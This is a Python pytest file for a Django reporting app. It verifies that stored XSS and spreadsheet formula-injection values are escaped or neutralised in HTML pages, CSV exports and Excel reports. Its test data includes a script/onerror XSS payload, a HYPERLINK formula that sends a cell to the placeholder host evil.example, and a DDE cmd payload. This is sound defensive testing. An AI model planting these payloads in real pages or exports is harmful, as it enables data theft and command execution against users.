"""Stored script and spreadsheet formulas in text fields, put straight in the database (as
a careless import could), come out inert: escaped in the HTML pages, quoted in the CSV
exports, text (never a formula) in the Excel report."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

SCRIPT = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)"]  # fmt: skip
ARGS = {"fund": "UNDG-ITF", "number": "G11-23"}


@pytest.fixture
def poisoned(loaded_project):
    from logframe.portfolio.models import Indicator

    type(loaded_project).objects.filter(pk=loaded_project.pk).update(title=SCRIPT)
    indicators = Indicator.objects.filter(result__project=loaded_project).order_by("id")
    for indicator, formula in zip(indicators, FORMULAS, strict=False):
        Indicator.objects.filter(pk=indicator.pk).update(text=formula)
    return loaded_project


@pytest.mark.parametrize(
    "name",
    ["project", "project-report", "project-entry", "project-history", "fund"],
)
def test_html_pages_escape_stored_script(client, users, poisoned, name):
    client.force_login(users["admin"])
    if name == "fund":
        path = reverse(name, kwargs={"code": "UNDG-ITF"})
    elif name == "project-entry":
        path = reverse(name, kwargs={**ARGS, "period": "2013Q1"})
    else:
        path = reverse(name, kwargs=ARGS)
    html = client.get(path).content.decode()
    assert "<script>alert(1)" not in html
    assert "onerror=alert(2)>" not in html
    if name != "project-history":
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_the_html_report_download_escapes_stored_script(client, users, poisoned):
    client.force_login(users["admin"])
    path = reverse("report-download", kwargs={**ARGS, "period": "2013Q1", "fmt": "html"})
    html = client.get(path).content
    assert b"<script>alert(1)" not in html


def test_csv_export_neutralises_formulas(client, users, poisoned):
    client.force_login(users["admin"])
    path = reverse("report-download", kwargs={**ARGS, "period": "2013Q1", "fmt": "csv"})
    response = client.get(path)
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
             for c in row]  # fmt: skip
    for formula in FORMULAS:
        assert formula not in cells
        assert "'" + formula in cells
    assert not [c for c in cells if c[:1] in {"=", "+", "@"}]


def test_xlsx_report_keeps_formulas_as_text(client, users, poisoned):
    client.force_login(users["admin"])
    path = reverse("report-download", kwargs={**ARGS, "period": "2013Q1", "fmt": "xlsx"})
    book = load_workbook(io.BytesIO(client.get(path).content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip("'") in FORMULAS:
                    found.append(cell)
    assert len(found) >= len(FORMULAS)
    assert all(cell.data_type == "s" for cell in found)
